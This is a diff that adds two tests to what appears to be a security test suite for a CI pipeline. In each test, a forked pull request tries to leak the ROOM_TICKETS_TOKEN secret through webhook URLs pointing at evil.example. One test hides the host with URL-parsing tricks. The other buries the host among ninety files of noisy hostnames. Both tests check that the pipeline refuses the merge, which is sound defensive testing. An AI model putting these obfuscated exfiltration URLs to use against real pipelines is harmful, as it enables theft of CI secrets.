@@ -78,6 +78,28 @@ def a_secret_of_another_room(s):
     return not_planned(s, pull, "hooks-are-ours")
 
 
+@attack("12", "a fork", "another room's secret, sent to a host that a variable seems to be")
+def a_secret_behind_a_host_that_is_not_seen(s):
+    tried = ("https://{}@evil.example/", "https://{}.evil.example/", "https://evil.example\\@hooks.example.com/{}")
+    rooms = {f"rooms/leak-{n}.yaml": one.format("${env:ROOM_TICKETS_TOKEN}") for n, one in enumerate(tried)}
+    pull = s.pull_request({name: f"meetingEndedWebhook: {url}\n" for name, url in rooms.items()})
+    where = not_planned(s, pull, "its host in clear")
+    check(s.apply(s.merge(pull)) is False, s.runner.log)
+    return f"{where}; merged all the same: {refused(s, 3)}"
+
+
+@attack("12", "a fork", "another room's secret, sent to one host among more than a comment holds")
+def a_host_among_too_many(s):
+    hooks = ("meetingJoinWebhook", "meetingLeftWebhook", "meetingStartedWebhook", "meetingEndedWebhook")
+    label = ".".join(["x" * 60] * 3)
+    hook = "{}: https://{}-{}." + label + ".example/${{env:ROOM_TICKETS_TOKEN}}\n"
+    rooms = {f"rooms/crowd-{n}.yaml": "".join(hook.format(name, name.lower(), n) for name in hooks) for n in range(90)}
+    pull = s.pull_request({**rooms, "rooms/crowd-90.yaml": "meetingEndedWebhook: https://evil.example/${env:ROOM_TICKETS_TOKEN}\n"})
+    where = not_planned(s, pull, "not planned")
+    check(s.apply(s.merge(pull)) is False and s.room("crowd-90") is None, s.runner.log)
+    return where
+
+
 # --- 2: what the configuration moves
 
 
